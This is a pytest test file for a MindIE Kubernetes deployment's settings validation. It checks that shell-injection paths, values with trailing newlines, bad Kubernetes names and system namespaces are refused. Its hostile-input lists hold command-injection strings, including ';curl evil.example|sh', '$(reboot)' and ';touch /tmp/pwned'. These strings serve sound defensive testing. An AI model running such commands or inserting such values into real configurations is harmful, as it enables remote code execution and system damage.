"""Issue 17: hostile values never reach a script, a path, a command or an object name.

Every value that ends up in run.sh, a mount path or a command line is validated strictly
(absolute, normalised, no shell metacharacters) and quoted where it is used; every pattern
is a full match (a trailing newline never passes); names are validated as Kubernetes does.
Validation only (no program run): fast.
"""

from __future__ import annotations

import copy
import json
import re
import shlex
from pathlib import Path
from typing import Any

import pytest

from stacks.settings.errors import SettingsError
from stacks.settings.stack import load_settings
from tests.helpers import stack_config

BASE = {stack: dict(stack_config(stack)) for stack in ("dev", "prod")}


def problems(stack: str, edits: dict[str, Any]) -> str:
    """The SettingsError text for the stack with `key.path = value` edits ('' when valid)."""
    config = dict(BASE[stack])
    decoded: dict[str, Any] = {}
    for dotted, value in edits.items():
        key, _, path = dotted.partition(".")
        if not path:
            config[key] = value if isinstance(value, str) else json.dumps(value)
            continue
        body = decoded.setdefault(key, copy.deepcopy(json.loads(config.get(key, "{}"))))
        node = body
        parts = path.split(".")
        for part in parts[:-1]:
            node = node.setdefault(part, {})
        node[parts[-1]] = value
    config.update({k: json.dumps(v) for k, v in decoded.items()})
    prod_secrets = ["mindie:tls", "mindie:tls.rootCa.keyPem", "mindie:tls.keyPassphrase"]
    secrets = prod_secrets if stack == "prod" else []
    try:
        load_settings(config.get, list(config), secrets)
    except SettingsError as err:
        return str(err)
    return ""


PATH_SETTINGS = [
    ("dev", "mindie:inferServer.mindie_server_config.mies_install_path"),
    ("dev", "mindie:servers.ascendHome"),
    ("dev", "mindie:servers.model.mountPath"),
    ("dev", "mindie:servers.writableData.mountPath"),
    ("prod", "mindie:motor.mindie_user_home_path"),
    ("prod", "mindie:motor.mies_install_path"),
    ("dev", "mindie:stateDir"),
]
HOSTILE_PATHS = [
    "/usr/local/Ascend/mindie/latest/mindie-service;curl evil.example|sh",
    "/opt/mindie/$(reboot)",
    "/opt/mindie/`id`",
    "/opt/mindie service",
    "/opt/mindie\n",
    "/opt/../etc",
    "/opt/mindie/'x'",
    "/opt/" + "a" * 5000,
]


@pytest.mark.parametrize("stack,setting", PATH_SETTINGS)
def test_hostile_paths_are_refused_for_every_path_setting(stack: str, setting: str):
    assert problems(stack, {}) == ""
    for value in HOSTILE_PATHS:
        text = problems(stack, {setting: value})
        assert f"{setting} = " in text or f"{setting}:" in text, (setting, value, text)
        assert "a" * 100 not in text  # an error message carries a short excerpt of a value at most


def test_run_sh_quotes_its_paths_even_if_validation_were_bypassed():
    from stacks.composition.server_files import run_sh
    from stacks.settings.infer_server import InferServer
    from stacks.settings.servers import ServersSettings

    server = InferServer.model_validate(json.loads(BASE["dev"]["mindie:inferServer"]))
    hostile = "/opt/mindie/x;touch /tmp/pwned"
    cfg = server.mindie_server_config.model_copy(update={"mies_install_path": hostile})
    server = server.model_copy(update={"mindie_server_config": cfg})
    servers = ServersSettings().model_copy(update={"ascend_home": "/a b;c"})
    text = run_sh(server, servers)
    export = next(line for line in text.splitlines() if line.startswith("export WORK_DIR="))
    assert shlex.split(export) == ["export", f"WORK_DIR={hostile}"]
    sources = [shlex.split(line) for line in text.splitlines() if line.startswith("source ")]
    assert sources and all(len(words) == 2 and words[1].startswith("/a b;c/") for words in sources)


# --------------------------------------------------------------------------- full-match patterns

NEWLINE_CASES = [
    ("dev", "mindie:namespace", "mindie"),
    ("dev", "mindie:inferServer.server_name", "mindie-server"),
    ("dev", "mindie:inferServer.max_unavailable", "25%"),
    ("dev", "mindie:servers.image", "mindie:server"),
    ("dev", "mindie:servers.model.weightDir", "llama"),
    ("dev", "mindie:servers.certSubject.country", "CN"),
    ("dev", "mindie:servers.writableData.sizeLimit", "20Gi"),
    ("dev", "mindie:msServer.image.reference", "registry.example.com/mindie/ms-server:motor-28a7e9f"),
    ("dev", "mindie:msServer.image.base_digest", "sha256:" + "a" * 64),
    ("dev", "mindie:msServer.user", "msuser"),
    ("dev", "mindie:msServer.storage.size", "1Gi"),
    ("dev", "mindie:msServer.storage.storage_class", "fast"),
    ("dev", "mindie:tls.kubeclientCn", "kubeclient"),
    ("dev", "mindie:tls.sans.msserver", ["ms-server"]),
    ("dev", "mindie:tls.crl.revoked", [{"serial": "3F0A"}]),
    ("dev", "mindie:releaseFrom", "staging"),
    ("prod", "mindie:motor.image", "registry.example.com/mindie/mindie-nonroot:2.3.0@sha256:" + "ab" * 32),
    ("prod", "mindie:motor.controller.state_storage.size", "2Gi"),
    ("prod", "mindie:motor.controller.state_storage.storage_class", "csi-local-retain"),
    ("prod", "mindie:motor.coordinator.node_selector", {"node-role": "motor"}),
]


def _with_newline(value: Any) -> Any:
    if isinstance(value, str):
        return value + "\n"
    if isinstance(value, list):
        return [_with_newline(value[0])]
    return {k: (_with_newline(v) if isinstance(v, str) else v) for k, v in value.items()}


@pytest.mark.parametrize("stack,setting,value", NEWLINE_CASES, ids=[c[1] for c in NEWLINE_CASES])
def test_a_trailing_newline_never_passes_a_pattern(stack: str, setting: str, value: Any):
    key = setting.split(".", 1)[0]
    if setting != "mindie:releaseFrom":
        assert problems(stack, {setting: value}) == "", setting  # the value itself is fine
    text = problems(stack, {setting: _with_newline(value)})
    assert text and key in text, (setting, text)


def test_node_selector_keys_are_label_keys_and_values_label_values():
    text = problems("prod", {"mindie:motor.coordinator.node_selector": {"bad key!": "x"}})
    assert "mindie:motor.coordinator.node_selector" in text and "label key" in text
    text = problems("prod", {"mindie:motor.controller.node_selector": {"accelerator": "a b"}})
    assert "label value" in text
    assert problems("prod", {"mindie:motor.coordinator.node_selector": {"example.com/pool": "cpu-1"}}) == ""


@pytest.mark.parametrize("value", ["Bad Class", "UPPER", "-x", "a..b", "x" * 254])
def test_storage_classes_are_dns_subdomains(value: str):
    assert "DNS-1123 subdomain" in problems("dev", {"mindie:msServer.storage.storage_class": value})
    assert "DNS-1123 subdomain" in problems(
        "prod", {"mindie:motor.controller.state_storage.storage_class": value}
    )


@pytest.mark.parametrize("namespace", ["kube-system", "default", "kube-public", "kube-node-lease"])
def test_system_namespaces_are_refused(namespace: str):
    text = problems("dev", {"mindie:namespace": namespace})
    assert "mindie:namespace" in text and "system namespace" in text


def test_image_references_with_whitespace_are_refused():
    for setting, stack in (
        ("mindie:servers.image", "dev"),
        ("mindie:motor.image", "prod"),
        ("mindie:msServer.image.reference", "dev"),
    ):
        assert problems(stack, {setting: "mindie:2.0 ;rm"}), setting
        assert problems(stack, {setting: "mindie:2.0\nx"}), setting


def test_no_pattern_in_the_code_is_used_with_re_match():
    """A grep, so that a `re.match(...$)` (a trailing newline passes) cannot creep back."""
    root = Path(__file__).resolve().parent.parent
    offenders = []
    for folder in ("stacks", "components", "domain", "mindiectl", "policy"):
        for path in (root / folder).rglob("*.py"):
            for number, line in enumerate(path.read_text().splitlines(), 1):
                code = line.split("#", 1)[0]
                if re.search(r"\bre\.match\(|[A-Za-z_]\.match\(", code):
                    offenders.append(f"{path.relative_to(root)}:{number}: {line.strip()}")
    assert offenders == []
